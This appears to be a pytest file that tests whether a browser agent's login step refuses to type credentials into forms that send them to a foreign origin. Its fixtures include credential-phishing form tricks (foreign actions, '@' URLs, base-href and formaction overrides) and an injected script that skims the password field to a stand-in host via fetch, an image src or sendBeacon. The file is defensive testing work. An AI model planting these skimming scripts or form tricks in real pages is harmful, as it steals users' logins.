"""Credentials are typed into the portal's own form and nowhere else."""

from __future__ import annotations

from dataclasses import replace
from typing import Any

import pytest
from hostile_site import Rogue
from playwright.async_api import Page

from agent.adapters.clocks import SystemClock
from agent.domain.portal import Portal
from agent.errors import Code, CompanionError
from agent.pages.sign_in import CreatorSignInPage, SellerSignInPage
from agent.profile import load_portal
from agent.tomlfile import default_folder
from agent.wiring import NoPace, tabs

PASSWORD = "SENTINEL-typed-4711"
FORM = """
<h1>Log in</h1>
<form {form}>
<label for=e>Email</label><input id=e name=email>
<label for=p>Password</label><input id=TikTok_Ads_SSO_Login_Pwd_Input type=password name=password>
{more}<button {button}>Log in</button></form>
"""

# What the page does to the form; {F} is the foreign origin, {O} our own.
ABROAD = {
    "action": {"form": "action='{F}/take'"},
    "action with our name before an at": {"form": "action='http://127.0.0.1@{f}/take'"},
    "action of another port": {"form": "action='//{f}/take'"},
    "javascript": {"form": "action='javascript:void(0)'"},
    "data": {"form": "action='data:text/html,x'"},
    "mail": {"form": "action='mailto:evil@example.com'"},
    "base": {"form": "action='/take'", "more": "<base href='{F}/'>"},
    "a field that hides the action": {
        "form": "action='{F}/take'",
        "more": "<input type=hidden name=action value='{O}/'>",
    },
    "a button of the form": {"button": "formmethod=post formaction='{F}/take'"},
    "a button anywhere": {"more": "</form><form><button formaction='{F}/take'>More</button>"},
}


@pytest.fixture
def mock_profile(rogue: Rogue) -> Portal:
    own = rogue.own.origin
    portal = load_portal((default_folder(),), "mock", {"seller": own, "creator": own})
    rogue.visits.tools = replace(rogue.visits.tools, portal=portal)
    return portal


def login_page(rogue: Rogue, trick: dict[str, str]) -> None:
    foreign = rogue.foreign.origin
    places = {"F": foreign, "f": foreign.removeprefix("http://"), "O": rogue.own.origin}
    parts = {"form": "", "more": "", "button": ""} | {name: text.format(**places) for name, text in trick.items()}
    rogue.own.page("/account/login", FORM.format(**parts))


async def typed(page: Page, portal: Portal) -> tuple[CompanionError | None, list[str]]:
    """Log in, and tell what came of it and what stands in the fields then."""
    tab: Any = tabs(portal, SystemClock(), NoPace(), 1000, 500)(page, lambda _: None)
    form, error = SellerSignInPage(tab), None
    await form.arrive()
    try:
        await form.sign_in("ops@example.com", PASSWORD)
    except CompanionError as told:
        error = told
    values = await page.evaluate("[...document.querySelectorAll('input:not([type=hidden])')].map((one) => one.value)")
    return error, values


@pytest.mark.sample(3)
@pytest.mark.parametrize("trick", ABROAD.values(), ids=ABROAD)
def test_nothing_is_typed_into_a_form_that_sends_abroad(
    rogue: Rogue, mock_profile: Portal, trick: dict[str, str]
) -> None:
    login_page(rogue, trick)

    error, values = rogue.run(lambda _, page: typed(page, mock_profile))

    assert error
    assert (error.code, error.exit) == (Code.G_ORIGIN, 34)
    assert values == ["", ""]
    assert rogue.foreign.connections == 0


def test_a_form_that_stays_at_home_is_filled(rogue: Rogue, mock_profile: Portal) -> None:
    login_page(rogue, {"form": "action='/passport/web/user/login' onsubmit='return false'"})

    _, values = rogue.run(lambda _, page: typed(page, mock_profile))

    assert values == ["ops@example.com", PASSWORD]


def test_a_frame_of_somebody_else_is_not_filled(rogue: Rogue, mock_profile: Portal) -> None:
    login_page(rogue, {})
    framed = rogue.own.answers.pop("/account/login")
    rogue.own.answers["/framed"] = framed
    rogue.own.page("/account/login", "<h1>Log in</h1><iframe src='/framed'></iframe>")

    error, values = rogue.run(lambda _, page: typed(page, mock_profile))

    assert error
    assert (error.code, error.exit) == (Code.E_PORTAL_CHANGED, 25)
    assert values == []


@pytest.mark.parametrize("status", [302, 307])
def test_a_login_page_abroad_is_not_opened(rogue: Rogue, mock_profile: Portal, status: int) -> None:
    rogue.own.redirect("/account/login", f"{rogue.foreign.origin}/account/login", status)

    with pytest.raises(CompanionError) as told:
        rogue.run(lambda _, page: typed(page, mock_profile))

    assert (told.value.code, told.value.exit) == (Code.G_ORIGIN, 34)
    assert rogue.foreign.connections == 0


@pytest.mark.parametrize(
    "stolen", ["fetch('{F}/' + p)", "new Image().src = '{F}/' + p", "navigator.sendBeacon('{F}', p)"]
)
def test_what_a_page_reads_from_the_field_does_not_get_abroad(rogue: Rogue, mock_profile: Portal, stolen: str) -> None:
    thief = f"<script>addEventListener('input', (e) => {{ const p = e.target.value; {stolen} }})</script>"
    login_page(rogue, {"form": "onsubmit='return false'"})
    status, headers, text = rogue.own.answers["/account/login"]
    told = text + thief.replace("{F}", rogue.foreign.origin)
    rogue.own.answers["/account/login"] = (status, headers, told)

    _, values = rogue.run(lambda _, page: typed(page, mock_profile))

    assert values == ["ops@example.com", PASSWORD]
    assert rogue.foreign.connections == 0


def test_what_was_typed_is_in_no_error(rogue: Rogue, mock_profile: Portal) -> None:
    login_page(rogue, {"form": "onsubmit='return false'"})
    slow = "<script>document.querySelector('[type=password]').readOnly = true</script>"
    status, headers, text = rogue.own.answers["/account/login"]
    rogue.own.answers["/account/login"] = (status, headers, text + slow)

    error, _ = rogue.run(lambda _, page: typed(page, mock_profile))

    assert error
    assert PASSWORD not in f"{error!r} {error} {error.params}"


def test_a_creator_s_login_opens_on_the_creator_s_own_origin(rogue: Rogue) -> None:
    creator = rogue.foreign
    portal = load_portal((default_folder(),), "mock", {"seller": rogue.own.origin, "creator": creator.origin})
    rogue.visits.tools = replace(rogue.visits.tools, portal=portal)
    creator.page("/m/login", "<h1>Log in</h1>")

    rogue.run(lambda _, page: arrived(page, portal))

    assert [path for _, path, _ in creator.heard] == ["/m/login"]
    assert rogue.own.heard == []


async def arrived(page: Page, portal: Portal) -> None:
    tab: Any = tabs(portal, SystemClock(), NoPace(), 1000, 500)(page, lambda _: None)
    await CreatorSignInPage(tab).arrive()
